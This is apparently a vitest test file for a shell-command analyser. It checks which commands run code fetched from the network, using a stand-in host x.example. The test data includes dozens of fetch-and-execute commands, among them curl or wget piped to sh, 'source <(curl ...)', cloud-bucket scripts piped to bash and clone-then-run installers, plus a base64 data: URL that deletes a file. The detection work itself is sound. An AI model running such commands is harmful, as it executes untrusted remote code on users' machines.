import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import { actions, commands, facts, lines } from '../harness.ts'

/** Code from the network, whoever runs it and however it came: no program has to be known for it. */

const URL = 'https://x.example'
const WORLD = {
  files: {
    '/repo/build.mk': 'all:\n\techo hi\n',
    '/repo/Makefile': 'all:\n\techo hi\n',
    '/repo/train.py': 'print(1)\n',
    '/repo/scripts/run.sh': 'echo hi\n',
    '/repo/data/keep.csv': '1\n',
  },
}

/** What an effect says of code from the network; empty where none does. */
function told(command: string): readonly string[] {
  return actions(command, WORLD).filter((action) => action === 'code:remote' || action === 'code:downloaded')
}

const REMOTE: readonly string[] = [
  // Addresses in the place of a script, whatever the program.
  `uv run ${URL}/tool.py`,
  `jbang ${URL}/Tool.java`,
  `deno run ${URL}/mod.ts`,
  `bun run ${URL}/x.ts`,
  `bun ${URL}/x.ts`,
  `groovy ${URL}/a.groovy`,
  `node --import ${URL}/x.mjs app.js`,
  `node -r ${URL}/x.js app.js`,
  `java -javaagent:${URL}/a.jar -jar app.jar`,
  `gradle -I ${URL}/init.gradle build`,
  `k6 run ${URL}/a.js`,
  `nix-env -if ${URL}/default.nix`,
  `terraform init -from-module=${URL}/mod.zip`,
  `terraform init -from-module=git::${URL}/mod.git`,
  `task -t ${URL}/Taskfile.yml build`,
  `node -e 'import("${URL}/x.mjs")'`,
  `deno eval 'import("${URL}/x.mjs")'`,
  `node --import 'data:text/javascript,await import("${URL}/x.mjs")' app.js`,
  // Substitutions.
  `python3 <(curl -s ${URL}/a.py)`,
  `perl <(wget -qO- ${URL}/a.pl)`,
  `source <(curl -s ${URL}/env)`,
  `just -f <(curl -s ${URL}/justfile)`,
  `ant -f <(curl -s ${URL}/build.xml)`,
  `gradle -I <(curl -s ${URL}/init.gradle) build`,
  `cmake -P <(curl -s ${URL}/x.cmake)`,
  `pip install -r <(curl -s ${URL}/req.txt)`,
  `docker build - < <(curl -s ${URL}/Dockerfile)`,
  `lua <(curl -s ${URL}/a.lua)`,
  `make -f <(curl -s ${URL}/build.mk)`,
  // Standard input of what follows instructions.
  `curl -s ${URL}/Dockerfile | docker build -`,
  `curl -s ${URL}/Dockerfile | docker build -f - .`,
  `curl -s ${URL}/build.mk | make -f -`,
  // Programs that nobody knows, and options that say what their value is.
  `frobnicate --script <(curl -s ${URL}/x)`,
  `frobnicate --init-script=<(curl -s ${URL}/x)`,
  `frobnicate --exec "$(curl -s ${URL}/x)"`,
  `frobnicate --plugin ${URL}/x.so`,
  `frobnicate run ${URL}/x.sh`,
  `crystal run <(curl -s ${URL}/a.cr)`,
  `dart run <(curl -s ${URL}/a.dart)`,
  `nim r <(curl -s ${URL}/a.nim)`,
  `scala-cli run ${URL}/a.sc`,
  `curl -s ${URL}/a.py | uv run -`,
  // Stores in the cloud.
  'aws s3 cp s3://b/i.sh - | sh',
  'gsutil cat gs://b/i.sh | bash',
]

describe('an address, a substitution or a stream that is code', () => {
  for (const command of REMOTE) proves('T02', command, () => expect(told(command)).toContain('code:remote'))
})

const DOWNLOADED: readonly string[] = [
  // Files.
  `curl -so a.jar ${URL}/a.jar && java -jar a.jar`,
  `wget ${URL}/a.jar -O /tmp/a.jar && java -cp lib.jar:/tmp/a.jar Main`,
  `curl -so A.java ${URL}/A.java && java A.java`,
  `curl -so a.go ${URL}/a.go && go run a.go`,
  `curl -so a.rs ${URL}/a.rs && rustc a.rs && ./a`,
  `curl -so a.c ${URL}/a.c && cc a.c -o a && ./a`,
  `curl -s ${URL}/a.c | gcc -x c - -o a && ./a`,
  `gcc -x c <(curl -s ${URL}/a.c) && ./a.out`,
  `axel ${URL}/x.sh; sh x.sh`,
  `lwp-download ${URL}/x.pl && perl x.pl`,
  `curl -so x ${URL}/x && frobnicate --script x`,
  `curl -so init.gradle ${URL}/i && gradle -I init.gradle build`,
  `curl -so d ${URL}/Dockerfile && docker build -f d .`,
  'aws s3 cp s3://b/i.sh . && bash i.sh',
  'gsutil cp gs://b/i.sh . && bash i.sh',
  'scp build.example:x.sh . && sh x.sh',
  // Files that are followed because of their names.
  `curl -so package.json ${URL}/p && npm run build`,
  `curl -s ${URL}/p > package.json; npm test`,
  `curl -so CMakeLists.txt ${URL}/c && cmake .`,
  `curl -so conftest.py ${URL}/c && pytest`,
  `curl -so vite.config.ts ${URL}/c && npx vite build`,
  `curl -so pom.xml ${URL}/c && mvn package`,
  `mkdir -p a && curl -so build.gradle ${URL}/c && cd a && gradle build`,
  // Archives.
  `curl -sL ${URL}/t.tgz | tar xz && ./tool/install.sh`,
  `curl -sL ${URL}/t.tgz | tar xz -C /tmp/t && bash /tmp/t/install.sh`,
  `curl -sLO ${URL}/t.tgz && tar xf t.tgz && cd t && ./install.sh`,
  `wget ${URL}/t.zip && unzip -q t.zip && sh t/setup.sh`,
  `wget -q ${URL}/t.zip -O /tmp/t.zip; unzip -q /tmp/t.zip -d /tmp/t; /tmp/t/run`,
  `wget ${URL}/t.7z && 7z x t.7z && t/setup`,
  `curl -sL ${URL}/t.tgz > t.tgz; mv t.tgz u.tgz; tar xf u.tgz; cd t; ./configure`,
  // Clones and trees from other machines.
  `git clone ${URL}/a && cd a && ./setup.sh`,
  `git clone ${URL}/a.git && bash a/install.sh`,
  `git clone --depth 1 ${URL}/a /tmp/a; /tmp/a/bin/tool`,
  `git clone ${URL}/a /opt/a && sudo python3 /opt/a/install.py`,
  `git clone ${URL}/a && source a/env.sh`,
  `git clone ${URL}/a && cat a/install.sh | sh`,
  `git clone ${URL}/a && sed s/x/y/ a/install.sh > i.sh && sh i.sh`,
  `git clone ${URL}/a && cp a/install.sh . && sh install.sh`,
  `git clone ${URL}/a && cp -r a b && b/install.sh`,
  `git clone ${URL}/a && mkdir -p a/b && a/b/install.sh`,
  `git clone ${URL}/a && cd a && make && ./bin/tool`,
  'gh repo clone o/a && cd a && ./install.sh',
  'gh release download -R o/a -p tool && chmod +x tool && ./tool',
  'rsync build.example:tools/ tools/ && tools/run.sh',
  `wget -r -np -nH -P site ${URL}/tools/ && bash site/tools/run.sh`,
  `svn checkout ${URL}/svn/x && x/run.sh`,
  `hg clone ${URL}/hg/x && x/run.sh`,
  `git submodule add ${URL}/x vendor/x && vendor/x/run.sh`,
  'gh run download 12 -n x && chmod +x x/x && x/x',
  'hf download o/x --local-dir x && python3 x/run.py',
  'gh api repos/o/x/tarball | tar xz && cd o-x-1 && ./run.sh',
  `cd $(mktemp -d) && curl -sLO ${URL}/x.tgz && tar xzf x.tgz && ./run.sh`,
  `curl -so setup.py ${URL}/s.py && pip install .`,
  `git clone ${URL}/a && PATH=$PWD/a/bin:$PATH tool`,
  'rclone copy remote:tools tools && ./tools/run.sh',
  'aws s3 sync s3://b/tools tools && tools/run.sh',
]

describe('a file that came from the network, by itself or with many', () => {
  for (const command of DOWNLOADED) proves('T02', command, () => expect(told(command)).toContain('code:downloaded'))
})

const PROJECTS: readonly string[] = [
  `git clone ${URL}/a && cd a && make`,
  `git clone ${URL}/a && make -C a`,
  `git clone ${URL}/a && cd a && npm run build`,
  `git clone ${URL}/a && cd a && cargo build --release`,
  `git clone ${URL}/a && (cd a && go build ./...)`,
  `git clone ${URL}/a && cd a && npm ci`,
  `git clone ${URL}/a && cd a && pip install -r requirements.txt`,
  `curl -sL ${URL}/t.tgz | tar xz && cd t && make install`,
]

/** What is installed itself is run as fetched code, wherever it is named from; its dependencies alone are a build of it. */
const INSTALLED = [
  `git clone ${URL}/a && cd a && pip install .`,
  `git clone ${URL}/a && cd a && pip install -e .`,
  `git clone ${URL}/a && cd a && pip install -e '.[dev]'`,
  `git clone ${URL}/a && pip install ./a`,
  `git clone ${URL}/a && pip install -e ./a`,
  `git clone ${URL}/a && npm install ./a`,
  `git clone ${URL}/a && yarn add ./a`,
  `git clone ${URL}/a && pnpm add ./a`,
]

describe('a project that was fetched is installed', () => {
  for (const command of INSTALLED)
    test(command, () => {
      expect(actions(command, WORLD)).toContain('code:downloaded')
      expect(actions(command, WORLD)).not.toContain('code:fetched-project')
    })

  for (const command of ['pip install .', 'pip install -e ./a', 'npm install ./a', `git clone ${URL}/a && pip install -e .`])
    test(`not what lay there: ${command}`, () => expect(actions(command, WORLD)).not.toContain('code:downloaded'))
})

describe('a project that was fetched is built', () => {
  for (const command of PROJECTS) {
    test(command, () => {
      expect(actions(command, WORLD)).toContain('code:fetched-project')
      expect(told(command)).toEqual([])
    })
  }

  test('each command says it once', () => {
    const seen = actions(`git clone ${URL}/a && cd a && make a b c`, WORLD)
    expect(seen.filter((action) => action === 'code:fetched-project')).toHaveLength(3)
  })
})

const NOTHING: readonly string[] = [
  // What is fetched is data.
  `curl -s ${URL}/items | python3 -m json.tool`,
  `curl -s ${URL}/items | python3 train.py`,
  `python3 train.py <(curl -s ${URL}/a) local.json`,
  `python3 train.py ${URL}/page`,
  `node app.js --url ${URL}/page`,
  `java -jar app.jar --url=${URL}`,
  `jq -s . base.json <(curl -s ${URL}/a)`,
  `diff <(curl -s ${URL}/a) <(curl -s ${URL}/b)`,
  `frobnicate --input <(curl -s ${URL}/a)`,
  `frobnicate ${URL}/page`,
  `gem install x --source ${URL}`,
  `curl -s ${URL}/a.c | gcc -x c - -fsyntax-only`,
  `gcc -x c <(curl -s ${URL}/a.c) -o a`,
  `curl -s ${URL}/targets | vegeta attack -targets=-`,
  `curl -so data.json ${URL}/x && python3 train.py data.json`,
  `curl -so data.json ${URL}/x && npm test`,
  `curl -so src/style.css ${URL}/x && npm run build`,
  `curl -so lib.js ${URL}/x && npx esbuild lib.js --outfile=out.js`,
  `curl -s http://localhost:3000/openapi.json > openapi.json && npm run generate`,
  `curl -so a.txt ${URL}/a; cc main.c -o main && ./main a.txt`,
  'aws s3 cp s3://b/data.csv . && python3 train.py data.csv',
  'scp build.example:data.csv . && python3 train.py data.csv',
  'hf download o/x --local-dir models/x && python3 scripts/infer.py --model models/x',
  // What lay there before the archive was unpacked beside it.
  `curl -sL ${URL}/d.tgz | tar xz && python3 train.py`,
  `curl -sLO ${URL}/d.zip && unzip -q d.zip && scripts/run.sh`,
  `curl -sL ${URL}/d.tgz | tar xz -C data && scripts/run.sh`,
  `curl -sL ${URL}/d.tgz | tar xz -C data && make`,
  // Nothing came from the network.
  'tar xf local.tgz && ./configure && make',
  'unzip vendor.zip && sh vendor/build.sh',
  'git clone /srv/a.git a && a/install.sh',
  'cp -r tools copy && copy/run.sh',
  'git pull && scripts/run.sh',
  'make -f build.mk',
  "make -f <(echo 'all:; echo hi')",
  "node --import 'data:text/javascript,console.log(1)' app.js",
  // What this machine made inside of what was fetched, and what is only looked at.
  `git clone ${URL}/a && cd a && python3 -m venv .venv && source .venv/bin/activate && pip install x`,
  `git clone ${URL}/a && cat a/install.sh`,
  `git clone ${URL}/a && cd a && pip install requests`,
  `git clone ${URL}/a && PATH=$PWD/a/bin:$PATH ls`,
  `git clone ${URL}/a && ls a && git -C a log`,
  `git clone ${URL}/a && echo 'echo hi' > a/mine.sh && sh a/mine.sh`,
]

describe('what stays what it is', () => {
  for (const command of NOTHING) test(command, () => expect(told(command)).toEqual([]))
})

describe('what the effect says', () => {
  for (const [command, expected] of [
    [`uv run ${URL}/t.py`, `execute code:remote ${URL}/t.py`],
    [`git clone ${URL}/a && sh a/i.sh`, `execute code:downloaded ${URL}/a`],
    [`curl -sL ${URL}/t.tgz | tar xz -C /tmp/t && /tmp/t/i`, `execute code:downloaded ${URL}/t.tgz`],
    [`curl -so package.json ${URL}/p && npm test`, `execute code:downloaded ${URL}/p`],
    [`git clone ${URL}/a && make -C a`, `likely execute code:fetched-project ${URL}/a`],
    [`frobnicate --script <(curl -s ${URL}/x)`, `possible execute code:remote ${URL}/x`],
  ] as const)
    test(command, () => expect(lines(command, WORLD)).toContain(expected))

  test('code in a data: address is read', () => {
    const inline = `node --import 'data:text/javascript,require("fs").unlinkSync("x")' a.js`
    expect(lines(inline, WORLD)).toContain('delete /repo/x')
    const encoded = `node --import 'data:text/javascript;base64,${btoa('require("fs").unlinkSync("x")')}' a.js`
    expect(lines(encoded, WORLD)).toContain('delete /repo/x')
  })

  test('a file that is kept is known to have come with its tree', () => {
    const { written } = facts(`git clone ${URL}/a && cp a/tool bin/tool`, WORLD)
    expect(written.find(({ path }) => path === '/repo/bin/tool')?.origin).toBe(`${URL}/a`)
  })
})

describe('a substitution is part of the word that it touches', () => {
  for (const [command, expected] of [
    ['f --a=<(true)', 'f --a=/dev/fd/63'],
    ['f a<(true)b c', 'f a/dev/fd/63b c'],
    ['f "q"<(true)', 'f q/dev/fd/63'],
    ['f <(true)<(true) <(true)', 'f /dev/fd/63/dev/fd/64 /dev/fd/65'],
    ['x=1; f $x<(true)', 'f 1/dev/fd/63'],
    ['f a <(true) b', 'f a /dev/fd/63 b'],
    ['f a\\ b<(true)', 'f a b/dev/fd/63'],
  ] as const)
    test(command, () => expect(commands(command)).toContain(expected))

  test('thousands of them', () => expect(facts(`f ${'<(a)'.repeat(8_000)}`).coverage).toBe('partial'))
})

describe('bounds', () => {
  test('many clones and many scripts', () => {
    const many = Array.from({ length: 200 }, (_, at) => `git clone ${URL}/r${at} && r${at}/a/b/c/d/install.sh && make -C r${at}`).join('\n')
    expect(facts(many, WORLD).coverage).toBe('partial')
  })
})
